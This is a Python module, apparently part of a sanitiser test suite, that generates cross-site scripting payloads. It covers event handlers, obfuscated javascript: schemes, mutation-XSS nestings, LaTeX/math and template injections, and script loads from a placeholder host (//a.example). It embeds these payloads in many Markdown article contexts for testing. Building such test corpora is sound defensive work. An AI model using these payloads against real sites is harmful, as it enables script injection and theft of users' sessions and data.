"""What attackers write, of every class in the lists of OWASP and of sanitisers, put together from its parts."""

import json
from itertools import product

from ..selection import SAMPLES

RUN = "alert(1)"
TAGS = [
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "details",
    "input",
    "iframe",
    "math",
    "marquee",
    "object",
    "p",
    "a",
    "x",
]
EVENTS = ["onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onpointerrawupdate", "onbegin", "ONCLICK"]
# Between the parts of a tag.
SPACES = [" ", "/", "\n", "\t", "\x0c", "/**/ ", "\r\n"]
QUOTED = [f"={RUN}", f"='{RUN}'", f'="{RUN}"', f" = {RUN}", "=&#97;lert(1)", f"=`{RUN}`", f'="a" b=\'"\'{RUN}']
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    "&#106;avascript:",
    "javascript&colon;",
    "javascript&#58;",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;",
    "\x01javascript:",
    " javascript:",
    "&#1;javascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "vbscript:",
    "livescript:",
    "data:text/html,",
    "data:text/html;base64,",
    "blob:",
    "data:image/svg+xml,",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "javascript:/*--></title></style>*/",
    "javascript://%0a",
    "\u00a0javascript:",
    "\u2028javascript:",
    "j\\avascript:",
    "%6aavascript:",
    "mhtml:",
    "file:///",
]
CARRIERS = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    '<form action="{}"><button>x</button></form>',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<math><mi xlink:href="{}">x</mi></math>',
    '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<video poster="{}"></video>',
    '<audio src="{}"></audio>',
    '<button formaction="{}">x</button>',
    '<table background="{}"><td>x</table>',
    '<link rel=stylesheet href="{}">',
    "$\\href{{{}}}{{x}}$",
    '<area href="{}">',
    '<q cite="{}">x</q>',
    '<embed src="{}">',
    '<img srcset="{}">',
    '<p style="background:url({})">x</p>',
]
# Elements whose text is read otherwise than that of others: what is in them may become markup when it is read again.
RAW = [
    "style",
    "title",
    "textarea",
    "xmp",
    "noscript",
    "noembed",
    "noframes",
    "iframe",
    "script",
    "template",
    "plaintext",
    "select",
]
ROOTS = [
    "svg",
    "math",
    "math><mtext",
    "math><annotation-xml encoding=text/html",
    "svg><foreignObject",
    "svg><desc",
    "table",
    "form",
    "p",
]
MUTATIONS = ["<{raw}><img src=x onerror=alert(1)></{raw}>", '<{raw}><a title="</{raw}><img src=x onerror=alert(1)>">']
SINGLE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//a.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/src=data:,alert(1)>",
    "<script x>alert(1)</script y>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php ><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<style>@import'//a.example'</style>",
    "<p id=body name=cookie>x</p>",
    "<form id=x></form><input form=x onfocus=alert(1) autofocus>",
    "<a id=defaultView><a id=defaultView name=x href=javascript:alert(1)>",
    "\ufeff<script>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onload to=alert(1)></svg>",
    "＜script＞alert(1)",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x /></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<x/",
    "<math><semantics><annotation-xml encoding=application/xhtml+xml><script>alert(1)</script>",
    "<a href=x ping=//a.example target=_blank>x</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "-->\"'><svg onload=alert(1)>",
    "}</style><script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 1 %>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$\\style{x:expression(alert(1))}{y}$",
    '$\\class{a" onx="}{y}$',
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    '$\\color{red"onload="alert(1)}{x}$',
    '$\\begin{array}{c"onload="}x\\end{array}$',
    "$x</math><script>alert(1)</script>$",
    "$\\htmlData{a=b}{x}$",
    "$\\includegraphics{javascript:x}$",
    "$\\url{javascript:x}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$$\\text{<!--}$$ <img src=x onerror=alert(1)> -->",
    "$\\operatorname{<script>}$",
    "$\\mathrm{<img src=x onerror=alert(1)>}$",
    "$<b>$</b>",
]


def payloads():
    """Events with tags, spaces and quotations; schemes and what carries them; nestings; and others.

    And the lists of other people, if the folder of samples has any: lists of texts as JSON in `xss/`.
    """
    found = [f"<{tag} src=x {event}={RUN}>" for tag, event in product(TAGS, EVENTS[:4])]
    found += [f"<img src=x {event}={RUN}>" for event in EVENTS]
    found += [
        f"<img{space}src=x{space}onerror{quoted}{end}" for space in SPACES for quoted in QUOTED for end in (">", "//")
    ]
    found += [carrier.format(scheme + RUN) for scheme in SCHEMES for carrier in CARRIERS[:3]]
    found += [carrier.format("javascript:" + RUN) for carrier in CARRIERS[3:]]
    found += [f"<{root}>{mutation.format(raw=raw)}" for root, raw, mutation in product(ROOTS, RAW[:7], MUTATIONS[:1])]
    found += [mutation.format(raw=raw) for raw, mutation in product(RAW, MUTATIONS)]
    lists = sorted(SAMPLES.glob("xss/*.json")) if SAMPLES else []
    return list(dict.fromkeys(found + SINGLE + [payload for file in lists for payload in json.loads(file.read_text())]))


# Where a payload stands in an article.
CONTEXTS = {
    "alone": "{}",
    "in a line": "a {} b",
    "emphasis": "**{}** *{}*",
    "marks": "=={}== ~~{}~~ ~{}~",
    "raised and lowered": "x^{}^ x~{}~",
    "formula": "$x {}$ $\\text{{{}}}$",
    "formula on its own": "$$\n\\text{{{}}} {}\n$$",
    "code": "`{}`\n\n```{}\n{}\n```",
    "code in math": "```math\n{}\n```",
    "heading": "## {} {{#{}}}",
    "title of a box": ":::note {}\n{}\n:::",
    "details": ":::details {}\n{}\n:::",
    "alert": "> [!NOTE]\n> {}",
    "quotation": "> {}\n\n:::pull {}\nx\n:::",
    "list": "- [ ] {}\n- {}",
    "definition": "{}\n: {}",
    "cell": "| {} | b |\n|---|---|\n| {} | d |",
    "footnote": "a[^1] b^[{}]\n\n[^1]: {}",
    "alternative text": "![{}](/media/a.png)",
    "caption": '![a](/media/a.png "{}")\n\n:::gallery\n![a](/media/a.png "{}")\n:::',
    "title of a link": '[a](/b "{}")',
    "address": "[a](<{}>) <{}>",
    "reference": "[a][b]\n\n[b]: {} '{}'",
    "attribute": "<p title=\"{}\">a</p> <b title='{}'>b</b>",
    "attribute of a file": "<video src=\"{}\" controls></video> <audio src='{}'></audio>",
    "figure": '<figure><img src=/media/a.png alt="{}"><figcaption>{}</figcaption></figure>',
    "block of HTML": "<div>{}</div>\n\n<details><summary>{}</summary>\n\n{}\n\n</details>",
}


def in_context(context: str, payload: str) -> str:
    return (
        CONTEXTS[context]
        .replace("{{", "\0")
        .replace("}}", "\1")
        .replace("{}", payload)
        .replace("\0", "{")
        .replace("\1", "}")
    )
